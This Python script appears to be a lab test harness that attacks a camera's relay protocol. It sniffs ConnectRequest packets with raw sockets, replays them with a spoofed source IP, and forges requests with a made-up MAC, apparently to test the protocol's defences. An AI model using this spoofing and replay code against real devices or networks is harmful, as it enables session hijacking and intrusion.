#!/usr/bin/env python3
"""An attacker on the internet against a camera's relay binding (docs/relay-protocol.md).

  relay_attack.py capture IFACE SECONDS     print "ready" once listening, then the first relay
                                            ConnectRequest seen on IFACE as
                                            "SRC SPORT DST DPORT HEX" (AF_PACKET, both ways)
  relay_attack.py send SRC SPORT DST DPORT HEX
                                            send HEX as a UDP datagram from SRC:SPORT (a raw
                                            socket: the source is spoofed, as an attacker's is)
  relay_attack.py forge DEVICE_ID           print a ConnectRequest for DEVICE_ID with a fresh
                                            session and nonce and a MAC made without the secret

Only the lab's namespaces run it; it sends nothing unless told to.
"""
import os
import socket
import struct
import sys
import time

MAGIC = b"HNRL"
CONNECT_REQUEST = 4


def capture(iface, seconds):
    # ETH_P_ALL: the kernel hands outgoing frames only to packet sockets of every protocol.
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    s.bind((iface, 0))
    s.settimeout(0.2)
    print("ready", flush=True)
    end = time.time() + float(seconds)
    while time.time() < end:
        try:
            frame = s.recv(65535)
        except socket.timeout:
            continue
        if frame[12:14] != b"\x08\x00":
            continue
        ip = frame[14:]
        if len(ip) < 28 or ip[0] >> 4 != 4 or ip[9] != 17:
            continue
        ihl = (ip[0] & 15) * 4
        sport, dport = struct.unpack("!HH", ip[ihl:ihl + 4])
        payload = ip[ihl + 8:struct.unpack("!H", ip[2:4])[0]]
        if payload[:4] == MAGIC and len(payload) > 5 and payload[5] == CONNECT_REQUEST:
            print(socket.inet_ntoa(ip[12:16]), sport, socket.inet_ntoa(ip[16:20]), dport,
                  payload.hex())
            return 0
    return 1


def send(src, sport, dst, dport, hexpayload):
    payload = bytes.fromhex(hexpayload)
    udp = struct.pack("!HHHH", int(sport), int(dport), 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), os.getpid() & 0xFFFF, 0, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    s.sendto(ip + udp, (dst, 0))
    return 0


def tlv(tag, value):
    return struct.pack("!BH", tag, len(value)) + value


def forge(device_id):
    body = tlv(9, os.urandom(8)) + tlv(10, os.urandom(16)) + tlv(5, struct.pack("!H", 17781))
    head = MAGIC + bytes([1, CONNECT_REQUEST]) + struct.pack("!H", len(body))
    head += bytes.fromhex(device_id) + struct.pack("!Q", int(time.time() * 1e6))
    print((head + body + os.urandom(32)).hex())
    return 0


def main(argv):
    if len(argv) == 3 and argv[0] == "capture":
        return capture(argv[1], argv[2])
    if len(argv) == 6 and argv[0] == "send":
        return send(*argv[1:])
    if len(argv) == 2 and argv[0] == "forge":
        return forge(argv[1])
    sys.exit(__doc__)


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
